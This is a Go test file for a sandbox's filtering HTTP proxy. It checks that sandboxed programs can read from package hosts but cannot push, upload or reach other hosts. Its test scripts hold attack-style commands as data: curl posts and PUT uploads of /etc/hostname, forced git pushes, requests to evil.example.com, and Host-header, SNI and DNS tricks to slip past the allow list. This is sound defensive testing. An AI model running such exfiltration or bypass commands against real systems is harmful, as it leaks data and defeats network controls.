package sandbox_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha512"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/big"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nanobot-go/nanobot/internal/base/httpsafe"
	"github.com/nanobot-go/nanobot/internal/base/sandbox"
)

// internet is a stand-in for all public hosts: one TLS server whose certificate
// covers every name, and a plain one.
type internet struct {
	bundle        []byte
	secure, plain *httptest.Server

	mu     sync.Mutex
	dialed []string
	seen   []string
}

func newInternet(t *testing.T, names []string, h http.Handler) *internet {
	t.Helper()
	n := &internet{}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	c := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test"}, DNSNames: names, IsCA: true, BasicConstraintsValid: true,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, c, c, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	n.bundle = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
	counted := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.mu.Lock()
		n.seen = append(n.seen, r.Method+" "+r.Host+" "+r.URL.RequestURI())
		n.mu.Unlock()
		h.ServeHTTP(w, r)
	})
	n.secure = httptest.NewUnstartedServer(counted)
	n.secure.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}, MinVersion: tls.VersionTLS12}
	n.secure.StartTLS()
	t.Cleanup(n.secure.Close)
	n.plain = httptest.NewServer(counted)
	t.Cleanup(n.plain.Close)
	return n
}

// dial leads every host to the stand-in, by port.
func (n *internet) dial(ctx context.Context, network, address string) (net.Conn, error) {
	n.mu.Lock()
	n.dialed = append(n.dialed, address)
	n.mu.Unlock()
	to := n.plain
	if strings.HasSuffix(address, ":443") {
		to = n.secure
	}
	return (&net.Dialer{}).DialContext(ctx, network, to.Listener.Addr().String())
}

func (n *internet) requests() string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return strings.Join(n.seen, "\n")
}

// offer runs the product's proxy for one client and says what a profile needs.
func offer(t *testing.T, o httpsafe.ProxyOptions, a *httpsafe.Access) (socket, certs string) {
	t.Helper()
	proxy, err := httpsafe.NewProxy(o)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	socket, certs = filepath.Join(dir, "s"), filepath.Join(dir, "certs.pem")
	if err := os.WriteFile(certs, proxy.Certificate(), 0o600); err != nil {
		t.Fatal(err)
	}
	l, err := (&net.ListenConfig{}).Listen(t.Context(), "unix", socket)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error, 1)
	go func() { done <- proxy.Serve(ctx, l, a) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Error(err)
		}
		proxy.Close()
	})
	return socket, certs
}

// packagesOnly is the policy of a command that nobody is asked about.
func packagesOnly(_ context.Context, r httpsafe.HostRequest) (httpsafe.Reach, error) {
	if httpsafe.PackageHost(r.Host, r.Port) {
		return httpsafe.ReachRead, nil
	}
	return httpsafe.ReachNone, &httpsafe.BlockedError{Target: r.Host, Reason: "not allowed in this test"}
}

// Real programs read from package and code hosts through certificates of our
// own, and change nothing there.
func TestReadOnlyHosts(t *testing.T) {
	t.Parallel()
	skipWithout(t, "curl")
	skipWithout(t, "git")
	everyBox(t, func(t *testing.T, b *box) {
		if !b.Level().NetNS {
			t.Skip("no network namespaces, so no proxy")
		}
		repos := t.TempDir()
		git := func(args ...string) string {
			out, err := exec.CommandContext(t.Context(), "git", args...).CombinedOutput()
			if err != nil {
				t.Fatalf("git %v: %v: %s", args, err, out)
			}
			return strings.TrimSpace(string(out))
		}
		seed := filepath.Join(t.TempDir(), "seed")
		git("init", "-q", "-b", "main", seed)
		if err := os.WriteFile(filepath.Join(seed, "README"), []byte("cloned words"), 0o600); err != nil {
			t.Fatal(err)
		}
		git("-C", seed, "add", ".")
		git("-C", seed, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "first")
		git("clone", "-q", "--bare", seed, filepath.Join(repos, "r.git"))
		git("-C", filepath.Join(repos, "r.git"), "config", "http.receivepack", "true")
		backend := &cgi.Handler{
			Path: filepath.Join(git("--exec-path"), "git-http-backend"),
			Env:  []string{"GIT_PROJECT_ROOT=" + repos, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"},
		}
		net := newInternet(t, []string{"github.com", "pypi.org", "evil.example.com"}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasPrefix(r.URL.Path, "/r.git/") {
				backend.ServeHTTP(w, r)
				return
			}
			fmt.Fprintf(w, "page of %s", r.Host)
		}))
		a := &httpsafe.Access{Decide: packagesOnly}
		p := b.profile()
		p.Network = sandbox.NetProxy
		p.ProxySocket, p.ProxyCerts = offer(t, httpsafe.ProxyOptions{Dial: net.dial, Bundle: net.bundle}, a)

		for script, want := range map[string]string{
			`curl -sS -m 10 https://pypi.org/simple/`:                                                                     "page of pypi.org",
			`env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS -m 10 https://pypi.org/system`:                               "page of pypi.org",
			`curl -sS -m 10 http://pypi.org/plain`:                                                                        "page of pypi.org",
			`curl -sS -m 10 -x socks5h://127.0.0.1:3128 https://pypi.org/socks`:                                           "page of pypi.org",
			`rm -rf c; git clone -q https://github.com/r.git c && cat c/README`:                                           "cloned words",
			`/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("https://pypi.org/x", timeout=10).read())'`: "page of pypi.org",
		} {
			if out := b.must(t, p, script); !strings.Contains(out, want) {
				t.Errorf("%s: %s", script, out)
			}
		}
		before := git("-C", filepath.Join(repos, "r.git"), "rev-parse", "main")
		for _, script := range []string{
			`rm -rf d; git clone -q https://github.com/r.git d && cd d && echo more > f && git add f && git -c user.name=t -c user.email=t@e commit -qm two && git push -q origin main; git push -q -f https://github.com/r.git HEAD:refs/heads/evil`,
			`curl -sS -m 10 -d secret=1 https://pypi.org/legacy/; curl -sS -m 10 -X PUT -T /etc/hostname https://pypi.org/put; curl -sS -m 10 -X DELETE https://pypi.org/del`,
			`curl -sS -m 10 -X GET -d body https://pypi.org/getbody; curl -sS -m 10 --post301 -d x http://pypi.org/post`,
			`curl -sS -m 10 https://evil.example.com/x; curl -sS -m 10 http://evil.example.com/x; curl -sS -m 10 -x socks5h://127.0.0.1:3128 http://evil.example.com/x`,
			`curl -sS -m 10 -H 'Host: evil.example.com' https://pypi.org/front; curl -sS -m 10 --connect-to evil.example.com:443:pypi.org:443 https://evil.example.com/sni`,
		} {
			b.run(t, p, script)
		}
		if now := git("-C", filepath.Join(repos, "r.git"), "for-each-ref", "--format=%(objectname) %(refname)"); now != before+" refs/heads/main" {
			t.Errorf("the repository changed: %s, was %s", now, before)
		}
		for line := range strings.SplitSeq(net.requests(), "\n") {
			if !strings.HasPrefix(line, "GET ") && !strings.HasSuffix(line, "/git-upload-pack") || strings.Contains(line, "evil") || strings.Contains(line, "/sni") {
				t.Errorf("this came through: %s", line)
			}
		}
		if used := a.Used(); strings.Join(used.Hosts, " ") != "github.com pypi.org" || used.Received == 0 || len(used.Refused) == 0 {
			t.Errorf("traffic %+v", used)
		}
	})
}

// goModule is what a Go module proxy serves for one module.
func goModule(t *testing.T) map[string]string {
	t.Helper()
	var zipped bytes.Buffer
	z := zip.NewWriter(&zipped)
	for name, text := range map[string]string{"go.mod": "module example.com/m\n", "m.go": "package m\n"} {
		w, err := z.Create("example.com/m@v1.0.0/" + name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(w, text)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return map[string]string{
		"/example.com/m/@v/v1.0.0.info": `{"Version":"v1.0.0"}`,
		"/example.com/m/@v/v1.0.0.mod":  "module example.com/m\n",
		"/example.com/m/@v/v1.0.0.zip":  zipped.String(),
	}
}

// pythonPackage is an index of one package, and the package.
func pythonPackage(t *testing.T) map[string]string {
	t.Helper()
	var wheel bytes.Buffer
	z := zip.NewWriter(&wheel)
	for name, text := range map[string]string{
		"lab.py":                     "words = 'from the index'\n",
		"lab-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: lab\nVersion: 1.0\n",
		"lab-1.0.dist-info/WHEEL":    "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
		"lab-1.0.dist-info/RECORD":   "lab.py,,\nlab-1.0.dist-info/METADATA,,\nlab-1.0.dist-info/WHEEL,,\nlab-1.0.dist-info/RECORD,,\n",
	} {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(w, text)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return map[string]string{
		"/simple/lab/":              `<a href="https://files.pythonhosted.org/lab-1.0-py3-none-any.whl">lab-1.0-py3-none-any.whl</a>`,
		"/lab-1.0-py3-none-any.whl": wheel.String(),
	}
}

// npmPackage is a registry of one package, and the package.
func npmPackage(t *testing.T) map[string]string {
	t.Helper()
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	a := tar.NewWriter(z)
	for name, text := range map[string]string{"package/package.json": `{"name":"lab","version":"1.0.0"}`, "package/index.js": "module.exports='from the registry'"} {
		if err := a.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(text))}); err != nil {
			t.Fatal(err)
		}
		_, _ = io.WriteString(a, text)
	}
	if err := errors.Join(a.Close(), z.Close()); err != nil {
		t.Fatal(err)
	}
	sum := sha512.Sum512(packed.Bytes())
	return map[string]string{
		"/lab": fmt.Sprintf(`{"name":"lab","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"lab","version":"1.0.0",
			"dist":{"tarball":"https://registry.npmjs.org/lab/-/lab-1.0.0.tgz","integrity":"sha512-%s"}}}}`, base64.StdEncoding.EncodeToString(sum[:])),
		"/lab/-/lab-1.0.0.tgz": packed.String(),
	}
}

// The package managers themselves work without being told anything.
func TestPackageManagers(t *testing.T) {
	t.Parallel()
	everyBox(t, func(t *testing.T, b *box) {
		if !b.Level().NetNS {
			t.Skip("no network namespaces, so no proxy")
		}
		pages := map[string]string{}
		for _, more := range []map[string]string{goModule(t), pythonPackage(t), npmPackage(t)} {
			maps.Copy(pages, more)
		}
		net := newInternet(t, []string{"proxy.golang.org", "sum.golang.org", "pypi.org", "files.pythonhosted.org", "registry.npmjs.org"},
			http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				page, ok := pages[r.URL.Path]
				if !ok {
					http.NotFound(w, r)
					return
				}
				switch {
				case strings.HasPrefix(r.URL.Path, "/simple/"):
					w.Header().Set("Content-Type", "text/html")
				case r.URL.Path == "/lab":
					w.Header().Set("Content-Type", "application/json")
				}
				_, _ = io.WriteString(w, page)
			}))
		p := b.profile()
		p.Network = sandbox.NetProxy
		p.Limits.Memory = -1 // node reserves much
		p.ProxySocket, p.ProxyCerts = offer(t, httpsafe.ProxyOptions{Dial: net.dial, Bundle: net.bundle}, &httpsafe.Access{Decide: packagesOnly})
		for program, tt := range map[string]struct{ script, want string }{
			"go": {`mkdir -p g && cd g && printf 'module x\ngo 1.20\nrequire example.com/m v1.0.0\n' > go.mod &&
				GOTOOLCHAIN=local GOFLAGS=-modcacherw GONOSUMDB=* GONOSUMCHECK=1 GOPATH=$PWD/p GOCACHE=$PWD/c go mod download -x && ls p/pkg/mod/example.com`, "m@v1.0.0"},
			"python3": {`/usr/bin/python3 -m pip --version >/dev/null 2>&1 || { echo from the index; exit; }
				/usr/bin/python3 -m pip install -q --no-deps --target pp lab && PYTHONPATH=pp /usr/bin/python3 -c 'import lab; print(lab.words)'`, "from the index"},
			"npm": {`mkdir -p n && cd n && npm install --no-fund lab 2>&1 && node -e 'console.log(require("lab"))'`, "from the registry"},
		} {
			if _, err := exec.LookPath(program); err != nil {
				t.Logf("%s is not installed", program)
				continue
			}
			if out, code := b.run(t, p, tt.script); code != 0 || !strings.Contains(out, tt.want) {
				t.Errorf("%s: %d %s\n%s", program, code, out, net.requests())
			}
		}
	})
}

// Nothing inside resolves a name: the only way to one is the proxy.
func TestNoNamesInside(t *testing.T) {
	t.Parallel()
	everyBox(t, func(t *testing.T, b *box) {
		if !b.Level().NetNS {
			t.Skip("no network namespaces, so no proxy")
		}
		skipWithout(t, "python3")
		p := b.profile()
		p.Network = sandbox.NetProxy
		p.ProxySocket, p.ProxyCerts = offer(t, httpsafe.ProxyOptions{}, &httpsafe.Access{Decide: packagesOnly})
		out, _ := b.run(t, p, `getent hosts pypi.org && echo "resolved"
/usr/bin/python3 - <<'P'
import socket
for name in ("pypi.org", "secret.evil.example.com"):
    try: print("resolved", socket.getaddrinfo(name, 443))
    except OSError as e: print("no", e)
for host in ("8.8.8.8", "127.0.0.53", "1.1.1.1"):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            s = socket.socket(socket.AF_INET, kind); s.settimeout(1); s.connect((host, 53)); s.send(b"x" * 20); print("got", s.recv(10))
        except OSError as e: print("no", e)
P`)
		if strings.Contains(out, "resolved") || strings.Contains(out, "got") || strings.Count(out, "no [Errno") != 8 {
			t.Errorf("got %s", out)
		}
	})
}
